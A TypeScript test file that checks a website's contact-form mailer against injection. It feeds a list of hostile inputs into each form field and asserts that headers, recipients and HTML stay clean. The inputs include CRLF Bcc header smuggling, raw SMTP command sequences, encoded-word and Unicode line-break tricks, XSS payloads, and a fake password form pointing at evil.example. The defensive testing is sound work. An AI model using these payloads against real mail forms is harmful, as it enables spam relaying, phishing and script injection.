import { expect, test } from "vitest";
import { startMailServer } from "../test-support/mail-server.ts";
import { buildSite, startSite } from "../test-support/site-process.ts";

const owner = "owner@example.net";
const from = "site@stillwater.example.com";
const victim = "victim@example.org";

/** What attackers type into a field that ends up in a mail's header. */
const attacks = [
  `Eve\r\nBcc: ${victim}`,
  `Eve\nBcc: ${victim}`,
  `Eve\rBcc: ${victim}`,
  `Eve%0d%0aBcc: ${victim}`,
  `Eve\\r\\nBcc: ${victim}`,
  `Eve\r\n\r\n.\r\nMAIL FROM:<${victim}>\r\nRCPT TO:<${victim}>\r\nDATA\r\nhello`,
  // What some parsers take for the end of a line.
  `Eve\u2028Bcc: ${victim}`,
  `Eve\u2029Bcc: ${victim}`,
  `Eve\u0085Bcc: ${victim}`,
  `Eve\u000bBcc: ${victim}`,
  `Eve\u0000\r\nBcc: ${victim}`,
  // Whose low byte is that of a line break.
  `Eve\u010d\u010aBcc: ${victim}`,
  // An encoded word with a line break in it.
  `=?utf-8?Q?Eve=0D=0ABcc:_${victim}?=`,
  `=?utf-8?B?${Buffer.from(`Eve\r\nBcc: ${victim}`).toString("base64")}?=`,
  // A second address in the place of a name.
  `Eve <${victim}>`,
  `Eve" <${victim}>, "`,
  `${victim}, Eve`,
  `Eve;${victim}`,
  `undisclosed: ${victim};`,
  `<img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">Eve</a>`,
  `"></td></table><form action="https://evil.example"><input name="password">`,
];

/** What a mail from the contact form may have in its head, and nothing beside. */
const expectedHeaders = [
  "auto-submitted",
  "content-type",
  "date",
  "from",
  "message-id",
  "mime-version",
  "reply-to",
  "subject",
  "to",
  "x-auto-response-suppress",
];

test("keeps headers, recipients and markup safe from injected text", async () => {
  const mailbox = await startMailServer();
  const site = await startSite(buildSite(), {
    SMTP_URL: mailbox.url,
    CONTACT_TO: owner,
    CONTACT_FROM: from,
    LIMIT_PER_CLIENT: "1000",
    LIMIT_PER_MINUTE: "1000",
  });
  let taken = 0;
  for (const attack of attacks) {
    for (const field of ["name", "interest", "message", "email"]) {
      const fields = {
        name: "Eve",
        email: "eve@example.org",
        interest: "",
        message: "Hello",
        [field]: attack,
      };
      const answer = await fetch(`${site.address}/functions/v1/send-contact-email`, {
        method: "POST",
        ...(taken % 2 === 0
          ? { body: new URLSearchParams(fields), redirect: "manual" }
          : { body: JSON.stringify(fields), headers: { "Content-Type": "application/json" } }),
      });
      expect([200, 303, 422], `${field}: ${JSON.stringify(attack)}`).toContain(answer.status);
      if (answer.status === 422) {
        // Given back to be mended, as text.
        expect(await answer.text()).not.toMatch(/<script|<img|<form action="https/);
      } else taken += 1;
    }
  }
  // Names and messages are whatever people call themselves and write; only impossible addresses are refused.
  expect(taken).toBeGreaterThanOrEqual(2 * attacks.length);

  const mails = await mailbox.received(taken);
  expect(mails).toHaveLength(taken);
  for (const mail of mails) {
    const about = JSON.stringify(mail.subject);
    expect(mail.to_, about).toEqual([owner]);
    expect(mail.headers.map(({ key }) => key).sort(), about).toEqual(expectedHeaders);
    expect(mail.from?.address, about).toBe(from);
    expect(mail.to, about).toEqual([{ name: "", address: owner }]);
    // One answer goes to one person: the one whose address was given.
    expect(
      mail.replyTo?.map(({ address }) => address),
      about,
    ).toEqual(["eve@example.org"]);
    expect(mail.html, about).not.toMatch(/<(?:script|img|form|input|a)\b/i);
    expect(mail.attachments, about).toEqual([]);
  }
  await site.end("SIGTERM");
  await mailbox.close();
});
